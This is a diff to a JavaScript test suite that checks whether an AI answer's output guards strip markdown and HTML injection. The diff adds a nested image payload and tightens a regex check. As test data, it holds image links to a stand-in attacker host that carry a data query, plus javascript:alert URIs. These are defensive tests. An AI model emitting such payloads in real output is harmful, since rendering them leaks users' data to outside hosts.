@@ -41,6 +41,7 @@ const joining = [
   `[EMAIL]: ${evil}\n\nThere it is: !a@b.io it is.`,
   `[x]: a.png\n\n![EMAIL] and\n\na@b.io: ${evil}`,
   `[picture withheld]: ${evil}\n\n![x]![a](https://evil.example/x.png)`,
+  `![x <b!\n\nso\n\n<img src="${evil}"> y](${evil})`,
   `![a](https://evil.example/x.png)(//evil.example/?q=${data})`,
   "![a](https://evil.example/x.png)(javascript:alert(1))",
   '<img src="https://evil.example/x.png">(javascript:alert(1))',
@@ -79,7 +80,7 @@ describe("an answer on its way through its guards", function () {
         expect(out, `${text}\n${out}`).to.not.match(
           /!\[(?:(?!\n\n)[^\]])*\]\((?:https|\/\/)|\]\(\/\/evil.example\/\?|\]\(javascript|\]: javascript|!\[EMAIL\][\s\S]*\]: https|\]: https[\s\S]*!\[EMAIL\]|!\[x\]\[|<script|<img x="\[/u,
         );
-        if (text.includes("![x")) expect(out).to.not.match(/!\[x[^\]]*\[[^\]]*\][^\]]*\]\(https/u);
+        if (text.includes("![x")) expect(out).to.not.match(/!\[x(?:(?!\n\n)[^\]])*\[[^\]]*\](?:(?!\n\n)[^\]])*\]\(https/u);
       }
   });
 
